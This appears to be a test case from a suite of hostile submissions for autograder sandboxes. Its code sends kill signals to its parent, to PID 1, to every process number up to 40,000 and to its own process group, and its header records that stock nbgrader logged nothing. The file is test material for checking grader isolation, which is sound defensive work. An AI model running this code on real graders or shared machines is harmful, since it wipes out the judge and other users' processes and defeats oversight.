# title: Kills every process that it can reach
# kind: process
# tries: to end its harness, the judge, and other submissions, by trying every process number.
# gets: bump_test crashed; unit_test crashed
# needs: namespaces
# stock: nbgrader 0.9.6: nothing recorded (exit status -15)
# %% bump
import os
import signal


def bump(x):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        for pid in (os.getppid(), 1):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    for pid in range(2, 40_000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    os.kill(os.getpid(), signal.SIGKILL)
# %% unit
def unit(v):
    os.killpg(0, signal.SIGKILL)
